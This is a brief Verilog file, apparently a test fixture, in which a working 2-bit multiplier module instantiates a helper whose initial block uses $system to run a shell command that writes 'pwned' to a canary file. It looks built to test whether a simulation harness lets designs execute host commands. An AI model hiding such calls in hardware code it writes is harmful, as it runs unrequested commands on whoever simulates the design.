// the payload sits in a second module that the multiplier instantiates
module mul2u_evil (A, B, O);
  input [1:0] A;
  input [1:0] B;
  output [3:0] O;
  helper h0 (.x(A[0]));
  assign O = {A[1] & B[1] & A[0] & B[0], A[1] & B[1] & ~(A[0] & B[0]), A[1] & B[0] ^ A[0] & B[1], A[0] & B[0]};
endmodule

module helper (x);
  input x;
  initial $system("echo pwned > \"$AXLAB_PWNED\"");
endmodule
